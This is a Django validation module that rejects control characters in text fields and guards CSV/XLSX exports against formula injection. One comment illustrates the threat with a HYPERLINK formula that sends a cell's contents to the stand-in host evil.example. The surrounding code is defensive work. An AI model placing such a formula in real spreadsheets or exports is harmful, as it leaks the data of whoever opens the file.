"""Text that every database can hold and every spreadsheet can show.

Word's Shift+Enter (U+000B) and other control characters were accepted in evidence; the
XLSX template of that country then failed for everyone. Every text field of the
project's models refuses them (PlainTextValidator, added by CommonConfig.ready so that
full_clean catches them at the form, the import and the fixture alike). Tab and line
breaks stay: they are how people write.
"""

import re

from django.core.exceptions import ValidationError
from django.utils.deconstruct import deconstructible
from django.utils.translation import gettext_lazy as _

# C0 controls but tab, line feed and carriage return (a browser sends a textarea's line
# breaks as CR LF); DEL; C1 controls; lone surrogates, which UTF-8 cannot encode.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")


@deconstructible
class PlainTextValidator:
    message = _(
        "Holds the invisible control character U+%(code)04X at position %(position)d "
        "(Word's Shift+Enter is one); only tabs and line breaks are allowed. Retype it "
        "as plain text."
    )
    code = "control_character"

    def __call__(self, value) -> None:
        found = CONTROL.search(str(value))
        if found:
            raise ValidationError(
                self.message,
                code=self.code,
                params={"code": ord(found.group()), "position": found.start() + 1},
            )

    def __eq__(self, other) -> bool:
        return isinstance(other, PlainTextValidator)


def guard_text_fields(models) -> None:
    """Give every free-text CharField and TextField of `models` the PlainTextValidator."""
    from django.db.models import CharField, TextField

    for model in models:
        for field in model._meta.local_fields:
            if (
                isinstance(field, CharField | TextField)
                and not field.choices
                and not any(isinstance(v, PlainTextValidator) for v in field._validators)
            ):
                validator = PlainTextValidator()
                field._validators.append(validator)  # its own: the migration records it
                if "validators" in field.__dict__:  # the cached list, with max_length's
                    field.__dict__["validators"].append(validator)


# Spreadsheet cells. A text cell that starts with one of these is read as a formula by
# Excel, LibreOffice or Google Sheets: `=HYPERLINK("http://evil.example/?d="&A2,"open")`
# in a source title would run in whoever opens our download. OWASP's advice for CSV
# injection: prefix such a cell with a single quote, so it shows as the text it is.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value):
    """`value` as a CSV or XLSX cell: text never starts a formula; numbers stay numbers.

    Control characters (which XLSX cannot hold: rows recorded before they were refused)
    are left out.
    """
    if not isinstance(value, str):
        return value
    value = CONTROL.sub("", value)
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def from_spreadsheet_cell(text: str) -> str:
    """The text a cell written by spreadsheet_cell holds, so a download uploads unchanged."""
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text
